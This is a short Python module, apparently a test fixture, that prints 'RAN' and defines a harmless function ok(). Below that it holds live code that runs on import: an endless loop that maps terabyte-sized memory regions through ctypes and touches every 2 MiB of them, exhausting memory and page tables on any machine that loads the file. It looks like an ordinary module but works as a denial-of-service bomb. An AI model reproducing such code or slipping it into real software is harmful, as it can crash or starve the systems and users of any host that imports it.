import os

print("RAN")


def ok():
    """Fine."""


import ctypes
import mmap

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_long] * 4
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
space = 1 << 40
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # MAP_NORESERVE
while True:
    start = libc.mmap(None, space, mmap.PROT_READ, flags, -1, 0)
    libc.madvise(start, space, 15)  # MADV_NOHUGEPAGE
    for at in range(start, start + space, 1 << 21):
        ctypes.c_char.from_address(at).value
